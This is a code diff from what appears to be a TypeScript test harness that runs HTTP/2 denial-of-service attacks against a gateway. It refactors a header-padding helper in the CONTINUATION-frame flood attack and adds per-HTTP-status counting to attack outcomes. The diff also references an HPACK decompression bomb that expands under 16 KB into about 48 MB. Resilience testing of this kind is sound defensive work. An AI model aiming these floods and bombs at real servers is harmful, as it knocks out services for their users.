@@ -14,7 +14,7 @@ import {
   H2Peer,
   headersFrame,
   hpackBomb,
-  literalHeader,
+  headerFieldOfSize,
   openSocket,
   pingFrame,
   rstStreamFrame,
@@ -45,6 +45,8 @@ export interface AttackOutcome {
   closedAtMs?: number
   /** What else the attack saw, in words, for the report. */
   notes: string
+  /** Attacks through the gateway: how many of its answers had each HTTP status ('no answer': none within the hang guard). */
+  statuses?: Record<string, number>
 }
 
 export type Attack = (address: string, opts: AttackOptions) => Promise<AttackOutcome>
@@ -92,16 +94,10 @@ export function continuationFlood(frameBytes: number, path = HEALTH_CHECK): Atta
     await peer.settled
     peer.answerControl = false
     await peer.send(headersFrame(1, grpcRequestBlock(path), { endHeaders: false }))
-    const chunk = repeated(continuationFrame(1, frameBytes ? fieldOfSize(frameBytes) : Buffer.alloc(0)))
+    const chunk = repeated(continuationFrame(1, frameBytes ? headerFieldOfSize(frameBytes) : Buffer.alloc(0)))
     const sent = await peer.flood(() => (goingOn(peer, signal) ? chunk : undefined), peer.startedAt + durationMs)
     return outcome(peer, sent, `${Math.round(sent / (9 + frameBytes))} CONTINUATION frames`)
   }
-}
-
-function fieldOfSize(bytes: number): Buffer {
-  let value = bytes
-  while (literalHeader('x-flood', 'f'.repeat(value)).length > bytes) value--
-  return literalHeader('x-flood', 'f'.repeat(value))
 }
 
 /** Requests whose header block of under 16 KB decodes to ~48 MB: hpackBomb's table entry, referenced ~12,000 times. */
